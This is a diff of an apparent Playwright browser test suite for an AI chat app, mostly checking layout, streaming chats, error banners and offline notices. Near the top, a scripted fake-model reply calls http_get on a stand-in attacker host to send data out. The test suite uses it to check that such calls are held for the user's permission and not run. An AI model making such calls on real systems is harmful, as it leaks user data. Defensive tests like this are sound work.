@@ -93,8 +93,21 @@ const SCRIPT = {
       call('http_get', '{"url": "https://attacker.example/c?d=hello%20from%20the%20browser%20test"}'),
       'I did not send it.',
     ],
+    // A new chat is listed while its first answer streams, and can be gone back to
+    // (one per width); one whose first call waits for a permission answer.
+    '[live-side-test]': [1, 2].map(() => Array.from({ length: 260 }, (_, i) => `live${i}`).join(' ') + ' LIVE END'),
+    '[live-perm-test]': [1, 2].flatMap(k => [call('write_file', `{"path": "live-${k}.txt", "content": "live"}`), 'Wrote it.']),
+    // Reading a long chat: a fast answer, an image, a failure; a call decided in words.
+    '[fast-test]': ['Done.'],
+    '[centre-test]': [`A dot: ![a grey dot](${DOT})`],
+    '[fail-print-test]': [{ status: 500, body: { error: { message: 'the fake model broke again' } } }],
+    '[words-test]': [call('write_file', '{"path": "words.txt", "content": "w"}'), 'Saved words.txt.'],
+    // A task list and a diagram's source.
+    '[md-extra-test]': ['To do:\n\n- [ ] buy milk\n- [x] call mum\n\n```mermaid\ngraph TD; A-->B\n```'],
+    // A table in an answer, with long words in short columns.
+    '[table-test]': ['| tool | level | what it does |\n|---|---|---|\n| get_time | L1 | Tells the current time in the time zone of the machine Evolve runs on, with the date. |\n| write_file | L3 | Writes a file in the workspace, replacing one of the same name after asking. |', '| tool | level | what it does |\n|---|---|---|\n| get_time | L1 | Tells the current time in the time zone of the machine Evolve runs on, with the date. |\n| write_file | L3 | Writes a file in the workspace, replacing one of the same name after asking. |'],
     // The tool-call check of Test in the settings panel (doctor's checks).
-    'Call the get_time tool now': [call('get_time', '{}'), call('get_time', '{}')],
+    'Call the get_time tool now': Array.from({ length: 6 }, () => call('get_time', '{}')),
   },
   fallback: { echo: true },
 };
@@ -146,11 +159,31 @@ async function until(fn, what) {
   throw new Fail(`gave up waiting: ${what}`);
 }
 
+let lastOpened = null; // the page a failed case leaves a screenshot of
 const browser = await chromium.launch({
   executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
   headless: true,
   args: ['--no-sandbox', '--disable-dev-shm-usage'],
 });
+
+// BROWSER_STATIC=DIR serves the UI's files from DIR (static/) instead of the binary's
+// copies: edit, rerun, no rebuild. The server's headers (CSP) are kept.
+if (process.env.BROWSER_STATIC) {
+  const dir = process.env.BROWSER_STATIC, newContext = browser.newContext.bind(browser);
+  browser.newContext = async (...a) => {
+    const ctx = await newContext(...a);
+    await ctx.route(u => /^\/(static\/.*)?$/.test(u.pathname), async route => {
+      const u = new URL(route.request().url());
+      const file = path.join(dir, u.pathname === '/' ? 'index.html' : u.pathname.slice('/static/'.length));
+      const response = await route.fetch({ maxRedirects: 0 });
+      if (response.status() !== 200 || !fs.existsSync(file)) return route.fulfill({ response });
+      const headers = { ...response.headers() };
+      for (const k of ['content-encoding', 'content-length', 'etag']) delete headers[k];
+      await route.fulfill({ status: 200, headers, body: fs.readFileSync(file) });
+    });
+    return ctx;
+  };
+}
 
 /** Opens the sign-in link `link` in `page` and waits for the app it leads to. */
 async function signIn(page, link) {
@@ -171,10 +204,34 @@ async function open(options = {}) {
   page.on('console', m => {
     if (m.type() === 'error' && !/status of 40[49]/.test(m.text())) page.seen.errors.push(`console: ${m.text()}`);
   });
+  lastOpened = page;
   await signIn(page, LOGIN);
   await page.waitForSelector('#sessions li');
   return page;
 }
+
+const WIDTHS = [{ width: 1280, height: 800 }, { width: 390, height: 844 }];
+const shot = async (page, name) => {
+  if (SHOTS) await page.screenshot({ path: path.join(SHOTS, `${name}.png`) }).catch(() => {});
+};
+/** The words of `sel`'s table cells that the layout broke across lines ("get_t / ime"). */
+const brokenWords = (page, sel) => page.evaluate(s => {
+  const out = [];
+  for (const cell of document.querySelectorAll(`${s} td, ${s} th`)) {
+    const walk = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
+    for (let n = walk.nextNode(); n; n = walk.nextNode()) {
+      // A word: Latin letters, digits and _ (Chinese text and punctuation may break anywhere).
+      for (const m of n.data.matchAll(/[A-Za-z0-9_]+/g)) {
+        const r = document.createRange();
+        r.setStart(n, m.index);
+        r.setEnd(n, m.index + m[0].length);
+        const tops = new Set([...r.getClientRects()].filter(x => x.width > 0).map(x => Math.round(x.top)));
+        if (tops.size > 1) out.push(m[0]);
+      }
+    }
+  }
+  return out;
+}, sel);
 
 const lastAnswer = page => page.locator('[data-testid=msg-assistant]').last();
 async function send(page, text) {
@@ -187,13 +244,18 @@ let main; // the desktop page most cases share: one session, turn after turn
 let liveCard = ''; // the text of a tool call's card while the answer came in
 let liveTurn = ''; // that turn's card line
 const results = [];
+// BROWSER_ONLY=REGEX runs only the cases whose name matches (those that open their own page).
+const ONLY = process.env.BROWSER_ONLY ? new RegExp(process.env.BROWSER_ONLY) : null;
 async function test(name, fn) {
+  if (ONLY && !ONLY.test(name)) return;
   try {
     await fn();
     results.push(true);
     console.log(`ok - ${name}`);
   } catch (e) {
     results.push(false);
+    if (lastOpened && lastOpened.seen && lastOpened.seen.errors.length) console.log(`    page errors: ${[...new Set(lastOpened.seen.errors)].slice(0, 3).join(' | ')}`);
+    if (SHOTS && lastOpened && !lastOpened.isClosed()) await lastOpened.screenshot({ path: path.join(SHOTS, `fail-${results.length}.png`) }).catch(() => {});
     console.log(`FAIL - ${name}\n    ${(e.stack || String(e)).split('\n').slice(0, e instanceof Fail ? 1 : 6).join('\n    ')}`);
   }
   if (SHOTS && main) {
@@ -403,13 +465,13 @@ await test('stop: the Stop button ends a streaming answer', async () => {
   await lastAnswer(main).locator('.body', { hasText: 'Still here after the stop.' }).waitFor();
 });
 
-await test('a failing model: the error shows in the answer and as an alert, and chatting goes on', async () => {
+await test('a failing model: the error shows once, in the answer (no toast repeating it), and chatting goes on', async () => {
   await send(main, 'This one fails');
   await idle(main);
   const err = lastAnswer(main).locator('.err');
   await err.waitFor();
   check((await err.textContent()).includes('the fake model broke'), `the model's message is shown: ${await err.textContent()}`);
-  check((await main.locator('[data-testid=toast].error').last().textContent()).includes('the fake model broke'), 'an alert says it too');
+  eq(await main.locator('[data-testid=toast]', { hasText: 'the fake model broke' }).count(), 0, 'toasts repeating it');
 });
 
 await test('after a reload the stopped and the failed turn are still there, and Retry asks the failed question again', async () => {
@@ -579,6 +641,7 @@ await test('export: Markdown, HTML and JSON downloads, and a print view without 
     }, href);
     eq(r.status, 200, `GET ${href}`);
     check(/attachment/.test(r.cd), `${f} is a download: ${r.cd}`);
+    check(r.cd.includes(`filename*=UTF-8''Renamed%20by%20the%20browser%20test.${f}`), `${f} is named after the chat: ${r.cd}`);
     check(r.body.includes('Run the echo command'), `the ${f} export holds the chat`);
   }
   await main.emulateMedia({ media: 'print' });
@@ -1005,9 +1068,9 @@ await test('prompt versions: save a new version, see it active, make the built-i
   await main.locator('[data-testid=prompt-version][data-version="0"] button', { hasText: 'Make active' }).click();
   await main.locator('[data-testid=prompt-version][data-version="0"] .badge').waitFor();
   eq((await api('GET', '/v1/prompt')).json.active, 0, 'the built-in prompt is active again');
-  // Evolving with nothing learned yet says why, as a visible message.
+  // Evolving with nothing learned yet says why, as a visible message (a state, not an error).
   await main.click('#prompt-evolve');
-  await main.locator('[data-testid=toast].error', { hasText: 'nothing' }).waitFor();
+  await main.locator('[data-testid=toast].info', { hasText: 'nothing' }).waitFor();
   // With a rule to learn from, the model proposes a version: shown as a difference
   // from the active text, stored only when the person activates it.
   eq((await api('POST', '/v1/memory', { content: 'Always answer in English', category: 'instruction' })).status, 201, 'a rule');
@@ -1153,6 +1216,153 @@ await test('a model server that is not there is named on page load, with the fix
   await ctx.close();
 });
 
+await test('one error once: on a server without a model a message fails under the answer with Retry, the banner says why, no toast covers it or follows into Settings (1280 and 390 px)', async () => {
+  for (const viewport of WIDTHS) {
+    const ctx = await browser.newContext({ locale: 'en-US', viewport });
+    const page = await ctx.newPage();
+    lastOpened = page;
+    await signIn(page, process.env.EVOLVE_DEAD_LOGIN);
+    const banner = page.locator('#model-banner');
+    await banner.waitFor({ state: 'visible' });
+    await send(page, `Hello without a model (${viewport.width})`);
+    await idle(page);
+    const note = lastAnswer(page).locator('[data-testid=turn-failed]');
+    await note.waitFor();
+    await until(async () => /see above/.test(await note.textContent()), 'the note points at the banner');
+    const retry = note.locator('[data-testid=retry]');
+    check(await retry.isVisible(), 'Retry under the answer');
+    eq(await page.locator('[data-testid=toast]').count(), 0, 'toasts');
+    // The error's cause is said once on the page (in the banner).
+    const said = await page.evaluate(() => (document.body.innerText.match(/connection refused/gi) || []).length);
+    eq(said, 1, '"connection refused" on the page');
+    // Nothing lies over Retry: it is what a click there reaches.
+    const box = await retry.boundingBox();
+    eq(await page.evaluate(([x, y]) => document.elementFromPoint(x, y)?.dataset.testid, [box.x + box.width / 2, box.y + box.height / 2]), 'retry', 'what is at Retry\'s place');
+    await shot(page, `one-error-${viewport.width}`);
+    await page.click('#model-settings');
+    await page.locator('#set-form').waitFor();
+    eq(await page.locator('[data-testid=toast].error').count(), 0, 'error toasts in Settings');
+    await ctx.close();
+  }
+});
+
+await test('the model going down after the page opened brings its banner back with the next failed message', async () => {
+  const ctx = await browser.newContext({ locale: 'en-US', viewport: { width: 1280, height: 800 } });
+  const page = await ctx.newPage();
+  lastOpened = page;
+  // The page opens while the model still answered (the check's answer from before).
+  const up = route => route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ reachable: true, served: true, models: ['fake-main'], base_url: 'http://127.0.0.1:9/v1', model: 'fake-main' }) });
+  await page.route('**/v1/settings/model', up);
+  await signIn(page, process.env.EVOLVE_DEAD_LOGIN);
+  await page.waitForSelector('#sessions li');
+  await page.waitForTimeout(300);
+  check(await page.locator('#model-banner').isHidden(), 'no banner while the model answered');
+  await page.unroute('**/v1/settings/model', up);
+  await send(page, 'Hello after the model went down');
+  await idle(page);
+  await page.locator('#model-banner').waitFor({ state: 'visible' });
+  check(/does not answer/.test(await page.textContent('#model-banner')), 'the banner says the model does not answer');
+  await ctx.close();
+});
+
+await test('the Evolve server gone: one "Cannot reach Evolve" notice with Retry in the page, no list emptied, no toasts; Retry brings the page back (1280 and 390 px)', async () => {
+  for (const viewport of WIDTHS) {
+    const page = await open({ viewport });
+    const mem = await api('POST', '/v1/memory', { content: `A memory that must not vanish (${viewport.width})` });
+    await page.evaluate(() => show('memory'));
+    const item = page.locator('[data-testid=memory-item]', { hasText: 'must not vanish' });
+    await item.first().waitFor();
+    // Every request to the server fails as a stopped server's do (the page itself is cached).
+    const gone = route => route.abort('connectionrefused');
+    const toServer = u => u.pathname.startsWith('/v1/') || u.pathname === '/health';
+    await page.route(toServer, gone);
+    await page.evaluate(() => show('memory'));
+    const notice = page.locator('[data-testid=offline]');
+    await notice.waitFor();
+    check((await notice.textContent()).includes('Cannot reach Evolve'), `the notice: ${await notice.textContent()}`);
+    check(await notice.locator('#offline-retry').isVisible(), 'Retry in the notice');
+    eq(await page.locator('[data-testid=toast]').count(), 0, 'toasts');
+    check(await item.first().isVisible(), 'the memories shown stay shown');
+    await shot(page, `offline-${viewport.width}`);
+    // A reload while it is gone: the page says so instead of "No chats yet".
+    await page.reload();
+    await notice.waitFor();
+    check(!(await page.textContent('#sessions')).includes('No chats yet'), 'the chat list does not claim there are no chats');
+    eq(await page.locator('[data-testid=toast]').count(), 0, 'toasts after a reload');
+    await page.unroute(toServer, gone);
+    await page.click('#offline-retry');
+    await notice.waitFor({ state: 'hidden' });
+    await until(async () => !(await page.textContent('#sessions')).includes('Loading'), 'the chat list is read again');
+    await page.evaluate(() => show('memory'));
+    await item.first().waitFor();
+    await api('DELETE', `/v1/memory/${mem.json.id}`);
+    await page.context().close();
+  }
+});
+
+/** Shell instructions a browser user cannot follow from the page. */
+const SHELL = /`evolve |evolve (?:config init|mcp add|mcp tools)|set OPENAI_BASE_URL|set EVOLVE_MODEL|OPENAI_BASE_URL \//;
+
+await test('no shell instructions in the browser, and the model server\'s messages in 中文: the banner and its buttons on a phone (390 px), Settings checks (en/中文)', async () => {
+  for (const lang of ['en', 'zh']) {
+    const ctx = await browser.newContext({ locale: lang === 'zh' ? 'zh-CN' : 'en-US', viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
+    const page = await ctx.newPage();
+    lastOpened = page;
+    await signIn(page, process.env.EVOLVE_DEAD_LOGIN);
+    const banner = page.locator('#model-banner');
+    await banner.waitFor({ state: 'visible' });
+    const text = await banner.textContent();
+    check(!SHELL.test(text), `the banner sends no one to a shell (${lang}): ${text}`);
+    if (lang === 'zh') check(/无法连接/.test(await page.textContent('#model-banner-detail')), `the banner's detail in 中文: ${await page.textContent('#model-banner-detail')}`);
+    // Each button's label on one line (not one character a line).
+    for (const b of ['#model-settings', '#model-recheck']) {
+      const [hgt, line] = await page.evaluate(s => { const e = document.querySelector(s); return [e.getBoundingClientRect().height, parseFloat(getComputedStyle(e).lineHeight) || 22]; }, b);
+      check(hgt < line * 2 + 16, `${b} is one line high (${lang}): ${hgt} px`);
+    }
+    const bh = (await banner.boundingBox()).height;
+    check(bh <= 844 * 0.4, `the banner leaves the phone's screen to the chat (${lang}): ${bh} px`);
+    await shot(page, `banner-390-${lang}`);
+    await page.click('#model-settings');
+    await page.locator('#set-form').waitFor();
+    await page.click('#set-test');
+    const first = page.locator('[data-testid=set-check]').first();
+    await first.waitFor();
+    const said = await page.textContent('#set-checks');
+    check(!SHELL.test(said), `the checks send no one to a shell (${lang}): ${said}`);
+    check(lang === 'en' ? /server reachable/.test(said) : /服务可达/.test(said), `the check's name (${lang}): ${said}`);
+    await shot(page, `settings-checks-390-${lang}`);
+    await ctx.close();
+  }
+});
+
+await test('after Test the model field holds one the server lists, and the failing check says to choose it here, not in a shell (1280 px)', async () => {
+  // The server without a model, none named: the built-in default is not what the server serves.
+  const ctx = await browser.newContext({ locale: 'en-US', viewport: { width: 1280, height: 800 } });
+  const page = await ctx.newPage();
+  lastOpened = page;
+  await signIn(page, process.env.EVOLVE_DEAD_LOGIN);
+  await page.locator('#model-banner').waitFor({ state: 'visible' });
+  await page.click('#model-settings');
+  await page.locator('#set-form').waitFor();
+  await page.locator('#set-test:enabled').waitFor(); // the settings in use are read
+  const before = await page.inputValue('#set-model');
+  await page.fill('#set-base-url', process.env.EVOLVE_FAKE_MODEL_URL);
+  await page.click('#set-test');
+  const bad = page.locator('[data-testid=set-check].fail', { hasText: 'main model' });
+  await bad.waitFor();
+  const said = await bad.textContent();
+  check(said.includes(before) && /choose one of the models/.test(said) && !SHELL.test(said), `the failing check's hint: ${said}`);
+  const listed = await page.locator('#set-model-list option').allTextContents();
+  const chosen = await page.evaluate(() => { const s = document.querySelector('#set-model-list'); return s.hidden ? document.querySelector('#set-model').value : s.value; });
+  eq(chosen, 'fake-main', `the model chosen after Test (of ${listed})`);
+  await shot(page, 'settings-test-picks-1280');
+  // Tools: no "evolve mcp add" above the form that adds one.
+  await page.click('#nav [data-view=tools]');
+  await page.locator('#mcp-list p, [data-testid=mcp-server]').first().waitFor();
+  check(!SHELL.test(await page.textContent('#view-tools')), `the Tools page sends no one to a shell: ${await page.textContent('#mcp-list')}`);
+  await ctx.close();
+});
+
 await test('another chat can be opened while an answer streams; the answer finishes in the background', async () => {
   await main.click('#nav [data-view=chat]');
   await main.click('#new-chat');
@@ -1205,6 +1415,10 @@ await test('the model is set in Settings, opened from the banner: Test shows fai
   await page.fill('#set-base-url', good);
   await page.click('#set-test');
   await page.locator('[data-testid=set-check].ok', { hasText: 'server reachable' }).waitFor();
+  // No model was named and the default one is not served: Test chose one the server
+  // lists, and testing again passes.
+  await page.locator('[data-testid=set-check].fail', { hasText: 'main model' }).waitFor();
+  await page.click('#set-test');
   for (const name of ['main model', 'completion', 'tool calling']) {
     await page.locator('[data-testid=set-check].ok', { hasText: name }).first().waitFor();
   }
@@ -1394,6 +1608,7 @@ await test('a dropped mcpServers JSON adds its servers and a dropped config.toml
 
   await main.click('#nav [data-view=settings]');
   await main.waitForSelector('#set-context-window');
+  await until(async () => (await main.inputValue('#set-context-window')) !== '', 'the settings are read');
   const before = await main.inputValue('#set-context-window');
   const toml = '# a config from another machine\n[model]\ncontext_window = 12345\ntemperature = 0.3\n\n[agent]\nlearn = false\n';
   await dropFile('#view-settings', 'config.toml', toml, 'application/toml');
@@ -1426,6 +1641,315 @@ await test('after a file was read, a call sending data no one gave is asked, sho
   await lastAnswer(main).locator('.body', { hasText: 'I did not send it.' }).waitFor();
   const chips = lastAnswer(main).locator('[data-testid=tool-chip]');
   check((await chips.last().textContent()).includes('not run'), `the http_get chip says not run: ${await chips.last().textContent()}`);
+});
+
+// ---------------------------------------------------------------- daily use (readability, live chats, errors)
+await test('tables keep their words whole: Tools, Prompt and an answer\'s table at 1280 and 390 px (en/中文)', async () => {
+  for (const viewport of WIDTHS) {
+    const page = await open({ viewport });
+    for (const lang of ['en', 'zh']) {
+      if (lang === 'zh') await page.evaluate(() => setLang('zh'));
+      for (const [view, table, rows] of [['tools', '#tools-table', 'tbody tr'], ['prompt', '#prompt-table', 'tbody tr']]) {
+        await page.evaluate(v => show(v), view);
+        await page.locator(`${table} ${rows}`).first().waitFor();
+        await page.waitForTimeout(200);
+        // Shown whole: the box around the table is not squeezed to nothing in its pane.
+        const [boxH, tableH] = await page.evaluate(t => [document.querySelector(t).parentElement.getBoundingClientRect().height,
+          document.querySelector(t).getBoundingClientRect().height], table);
+        check(tableH > 20 && boxH >= tableH - 1, `the ${view} table is shown at ${viewport.width} px: ${boxH} of ${tableH} px`);
+        const broken = await brokenWords(page, table);
+        eq(broken.slice(0, 8).join(' | '), '', `${view} at ${viewport.width} px (${lang}): words broken across lines`);
+        const [sw, cw] = await page.evaluate(v => { const p = document.querySelector(`#view-${v}`); return [p.scrollWidth, p.clientWidth]; }, view);
+        check(sw <= cw + 1, `the ${view} pane fits ${viewport.width} px: ${sw} > ${cw}`);
+        await page.evaluate(t => document.querySelector(t).scrollIntoView({ block: 'start' }), table);
+        await shot(page, `tables-${view}-${viewport.width}-${lang}`);
+      }
+      const source = await page.locator('#tools-table tbody tr', { hasText: 'write_file' }).locator('td').nth(2).textContent();
+      check(!/builtin · builtin/.test(source) && source.trim() === (lang === 'en' ? 'built-in' : '内置'), `a built-in tool's source once, in words: ${source}`);
+      const unclassified = page.locator('#tools-table .origin', { hasText: lang === 'en' ? 'not classified yet' : '尚未分类' }).first();
+      if (await unclassified.count()) check(/L4/.test(await unclassified.getAttribute('title')), 'an unclassified tool says why it is L4');
+    }
+    await page.evaluate(() => setLang('en'));
+    // An answer's table: the first chat's streamed table.
+    await page.evaluate(() => show('chat'));
+    await send(page, 'Which tools are there? [table-test]');
+    await idle(page);
+    await page.locator('#messages table td', { hasText: 'get_time' }).first().waitFor();
+    await shot(page, `tables-answer-${viewport.width}`);
+    eq((await brokenWords(page, '#messages')).join(' | '), '', `an answer's table at ${viewport.width} px`);
+    await page.context().close();
+  }
+});
+
+await test('a new chat is in the sidebar from its first question, while it streams and while it waits for a permission answer, and a streaming chat can be gone back to (1280 and 390 px)', async () => {
+  const other = await api('POST', '/v1/sessions', { title: 'A quiet chat to switch to' });
+  for (const viewport of WIDTHS) {
+    const phone = viewport.width < 700;
+    const page = await open({ viewport });
+    const sidebar = async () => { if (phone) { await page.click('#menu'); await page.waitForFunction(() => document.querySelector('#sidebar').getBoundingClientRect().left >= 0); } };
+    const story = `Tell a long story (${viewport.width})`, file = `Write a live file (${viewport.width})`;
+    const item = page.locator('[data-testid=session-item]', { hasText: story });
+    await page.click(phone ? '#menu' : '#new-chat').then(() => phone && page.click('#new-chat'));
+    await send(page, `${story}\n[live-side-test]`);
+    await lastAnswer(page).locator('.body', { hasText: 'live10' }).waitFor();
+    await sidebar();
+    await item.waitFor();
+    eq((await item.locator('[data-testid=session-live]').textContent()).trim(), 'answering…', 'the chat says it is answering');
+    await shot(page, `live-sidebar-${viewport.width}`);
+    // Away to another chat, and back while it still streams.
+    await page.locator(`[data-testid=session-item][data-id="${other.json.id}"] .open`).click();
+    await until(async () => (await page.textContent('#title')) === 'A quiet chat to switch to', 'the other chat is open');
+    check(!(await page.textContent('#messages')).includes('live10'), 'the other chat does not show the streaming answer');
+    await sidebar();
+    await item.waitFor();
+    check(await item.locator('[data-testid=session-live]').count() === 1, 'still marked as answering after switching');
+    await item.locator('.open').click();
+    const body = lastAnswer(page).locator('.body');
+    await body.waitFor();
+    const before = (await body.textContent()).length;
+    check(!(await body.textContent()).includes('LIVE END'), 'back before the end');
+    check(await page.isVisible('#stop'), 'Stop is offered for the running answer');
+    await until(async () => (await body.textContent()).length > before, 'the answer keeps growing in the chat gone back to');
+    await body.locator('text=LIVE END').waitFor();
+    await idle(page);
+    eq(await page.locator('[data-testid=msg-user]', { hasText: story }).count(), 1, 'the question once');
+    if (phone) await sidebar();
+    await item.locator('[data-testid=session-live]').waitFor({ state: 'detached' });
+    if (phone) await page.mouse.click(viewport.width - 10, 400);
+
+    // A first question whose tool call waits for the person: listed, "waiting for your answer".
+    if (phone) { await page.click('#menu'); await page.click('#new-chat'); } else await page.click('#new-chat');
+    await send(page, `${file} [live-perm-test]`);
+    await page.waitForSelector('#perm[open]');
+    const waiting = page.locator('[data-testid=session-item]', { hasText: file });
+    await waiting.locator('[data-testid=session-live]', { hasText: 'waiting for your answer' }).waitFor({ state: 'attached' });
+    await shot(page, `live-waiting-${viewport.width}`);
+    await page.click('#perm-allow');
+    await idle(page);
+    await lastAnswer(page).locator('.body', { hasText: 'Wrote it.' }).waitFor();
+    await waiting.locator('[data-testid=session-live]').waitFor({ state: 'detached' });
+    eq([...new Set(page.seen.errors)].join('\n'), '', 'page errors');
+    await page.context().close();
+  }
+  await api('DELETE', `/v1/sessions/${other.json.id}`);
+});
+
+await test('reading a long chat: a fast answer ends in view, the enlarged image is centred, Esc closes the menu and cancels an edit, ? lists the shortcuts, print leaves out Retry and the actions (1280 px)', async () => {
+  const page = await open({ viewport: { width: 1280, height: 800 } });
+  const long = await api('POST', '/v1/sessions', { title: 'A long chat to read' });
+  for (let i = 0; i < 8; i++) {
+    eq((await api('POST', '/v1/chat/completions', { model: 'evolve', session: long.json.id, messages: [{ role: 'user', content: `Line ${i}: ${LONG.slice(0, 900)}` }] })).status, 200, 'a stored turn');
+  }
+  await page.evaluate(id => openSession(id), long.json.id);
+  await page.locator('[data-testid=msg-user]', { hasText: 'Line 7' }).waitFor();
+  await send(page, 'Quick one [fast-test]');
+  await idle(page);
+  await lastAnswer(page).locator('.body', { hasText: 'Done.' }).waitFor();
+  await page.waitForTimeout(300);
+  const gap = await page.evaluate(() => { const b = document.querySelector('#messages'); return b.scrollHeight - b.scrollTop - b.clientHeight; });
+  check(gap < 8, `the view is at the end after a fast answer: ${gap} px above it`);
+  // The enlarged image in the middle of the window.
+  await send(page, 'A picture [centre-test]');
+  await idle(page);
+  await lastAnswer(page).locator('[data-testid=md-img]').click();
+  const img = page.locator('#lightbox[open] img');
+  await img.waitFor();
+  const r = await img.boundingBox();
+  check(Math.abs(r.x + r.width / 2 - 640) < 24, `the image is centred: ${JSON.stringify(r)}`);
+  await page.click('#lightbox');
+  // Esc closes the export menu and cancels an edit.
+  await page.click('#export summary');
+  check(await page.evaluate(() => document.querySelector('#export').open), 'the export menu opened');
+  await page.keyboard.press('Escape');
+  check(!(await page.evaluate(() => document.querySelector('#export').open)), 'Esc closed the export menu');
+  await page.locator('#messages > [data-testid=msg-user]').last().locator('[data-testid=edit]').click();
+  await page.locator('.edit-box').waitFor();
+  await page.keyboard.press('Escape');
+  await page.locator('.edit-box').waitFor({ state: 'detached' });
+  check((await page.locator('#messages > [data-testid=msg-user]').last().textContent()).includes('A picture'), 'the question is back as it was');
+  // ? lists the shortcuts (not while typing).
+  await page.locator('#title').click();
+  await page.keyboard.press('?');
+  await page.locator('#ask[open]', { hasText: 'Ctrl+K' }).waitFor();
+  await page.click('#ask-ok');
+  // A failed answer: Retry is on the screen, not on paper.
+  await send(page, 'This fails [fail-print-test]');
+  await idle(page);
+  await lastAnswer(page).locator('[data-testid=retry]').waitFor();
+  await page.emulateMedia({ media: 'print' });
+  const printed = await page.evaluate(() => [...document.querySelectorAll('[data-testid=retry], .acts')].filter(e => getComputedStyle(e).display !== 'none').length);
+  await page.emulateMedia({ media: 'screen' });
+  eq(printed, 0, 'Retry buttons and message actions on the printed page');
+  await api('DELETE', `/v1/sessions/${long.json.id}`);
+  await page.context().close();
+});
+
+await test('turn details in words, the theme back to following the system, a phone\'s composer hint and New chat in its top bar', async () => {
+  const page = await open({ viewport: { width: 1280, height: 800 } });
+  await send(page, 'Save the words [words-test]');
+  await page.waitForSelector('#perm[open]');
+  await page.click('#perm-allow');
+  await idle(page);
+  await lastAnswer(page).locator('.body', { hasText: 'Saved words.txt.' }).waitFor();
+  const card = page.locator('[data-testid=turn-card]').last();
+  await card.locator('summary').click();
+  await card.locator('dd', { hasText: 'write_file' }).waitFor();
+  const text = await card.textContent();
+  check(/asked once/.test(text) && !/ask_once|tier_floor|F1 /.test(text), `the turn's words: ${text}`);
+  check(!/0 in \/ 0 out/.test(text) || /[1-9]\d* in/.test(text), `no "0 in / 0 out" for usage not reported: ${text}`);
+  // Light or dark, the other one, then back to following the system.
+  const theme = page.locator('#theme-toggle');
+  const seen = [];
+  for (let i = 0; i < 3; i++) {
+    await theme.click();
+    seen.push(await page.evaluate(() => [localStorage.getItem('evolve.theme') || 'system', document.querySelector('#theme-toggle').title]));
+  }
+  eq(seen[2][0], 'system', `the third click follows the system again (${JSON.stringify(seen)})`);
+  check(/system/.test(seen[2][1]), `the button says so: ${seen[2][1]}`);
+  await page.context().close();
+  // A phone: the whole hint fits the composer, New chat is in the top bar.
+  const phone = await open({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
+  const [sw, cw] = await phone.evaluate(() => {
+    const i = document.querySelector('#input'), c = document.createElement('canvas').getContext('2d');
+    c.font = getComputedStyle(i).font;
+    return [c.measureText(i.placeholder).width, i.clientWidth - parseFloat(getComputedStyle(i).paddingLeft) - parseFloat(getComputedStyle(i).paddingRight)];
+  });
+  check(sw <= cw, `the composer's hint fits: ${Math.round(sw)} of ${cw} px`);
+  await send(phone, 'A phone chat');
+  await idle(phone);
+  check(await phone.isVisible('#new-chat-top'), 'New chat in the top bar');
+  await phone.tap('#new-chat-top');
+  await phone.locator('#empty').waitFor();
+  await shot(phone, 'phone-new-chat-390');
+  await phone.context().close();
+});
+
+await test('a task list keeps each box on its text\'s line, a mermaid block says it is the diagram\'s source; an MCP server whose program is not there says why on its card, without a shell command', async () => {
+  const page = await open({ viewport: { width: 1280, height: 800 } });
+  await send(page, 'My list [md-extra-test]');
+  await idle(page);
+  const item = lastAnswer(page).locator('li.task', { hasText: 'buy milk' });
+  await item.waitFor();
+  const [box, text] = await item.evaluate(li => {
+    const b = li.querySelector('.box').getBoundingClientRect();
+    const r = document.createRange();
+    r.selectNodeContents(li.querySelector('.box').nextSibling || li);
+    return [b.top, r.getClientRects()[0].top];
+  });
+  check(Math.abs(box - text) < 4, `the box is on its text's line: ${box} vs ${text}`);
+  check(/diagram/.test(await lastAnswer(page).locator('.code-bar').textContent()), 'the mermaid block says what it is');
+  await page.evaluate(() => show('tools'));
+  await page.locator('[data-testid=mcp-server]').first().waitFor();
+  await page.click('#mcp-add-box summary');
+  await page.fill('#mcp-name', 'ghost');
+  await page.fill('#mcp-command', '/nonexistent/ghost-server --flag');
+  await page.click('#mcp-form button[type=submit]');
+  const card = page.locator('[data-testid=mcp-server]', { hasText: 'ghost' });
+  const why = card.locator('[data-testid=mcp-error]');
+  await why.waitFor();
+  const said = await why.textContent();
+  check(/ghost/.test(said) && !SHELL.test(said), `the card says why: ${said}`);
+  await shot(page, 'mcp-ghost-1280');
+  eq((await api('DELETE', '/v1/mcp/servers/ghost')).status, 200, 'removed');
+  page.seen.errors = page.seen.errors.filter(e => !/status of 4\d\d|status of 5\d\d/.test(e));
+  await page.context().close();
+});
+
+await test('memory: priority and importance are explained, and style notes promise only what happens; a skill\'s wrapped lines read as one paragraph', async () => {
+  const page = await open({ viewport: { width: 1280, height: 800 } });
+  await page.evaluate(() => show('memory'));
+  await page.click('#mem-new');
+  check(/come first/.test(await page.textContent('#mem-form')), 'the form explains priority');
+  check(/critical/.test(await page.locator('#mem-priority').evaluate(s => s.closest('label').title)), 'the priority field has its explanation');
+  check(/👍/.test(await page.textContent('#style-notes')), 'the style notes say they come from the answers rated 👍 (which the chat offers)');
+  const dir = path.join(HOME, 'skills', 'wrapped-notes');
+  fs.mkdirSync(dir, { recursive: true });
+  fs.writeFileSync(path.join(dir, 'SKILL.md'), '---\nname: wrapped-notes\ndescription: Use when the user asks for wrapped notes.\n---\nWrite the notes as one\nparagraph that the source\nwrapped at a width.\n\n- a list item\n- another\n');
+  await page.evaluate(() => show('skills'));
+  await page.locator('[data-testid=skill-item]', { hasText: 'wrapped-notes' }).locator('button').first().click();
+  const p = page.locator('#skill-view p', { hasText: 'Write the notes' });
+  await p.waitFor();
+  eq(await p.locator('br').count(), 0, 'line breaks inside the paragraph');
+  eq(await page.locator('#skill-view li').count(), 2, 'the list stays a list');
+  fs.rmSync(dir, { recursive: true, force: true });
+  await page.context().close();
+});
+
+await test('page weight and first paint: the app loads in under 80 KB on the wire', async () => {
+  // A fresh browser: nothing cached.
+  const page = await open({ viewport: { width: 1280, height: 800 } });
+  await page.waitForTimeout(500);
+  const [bytes, requests, paint] = await page.evaluate(() => {
+    const nav = performance.getEntriesByType('navigation')[0];
+    const res = performance.getEntriesByType('resource').filter(r => /\/static\//.test(r.name));
+    const fcp = performance.getEntriesByName('first-contentful-paint')[0];
+    return [nav.transferSize + res.reduce((n, r) => n + r.transferSize, 0), 1 + res.length, fcp ? Math.round(fcp.startTime) : -1];
+  });
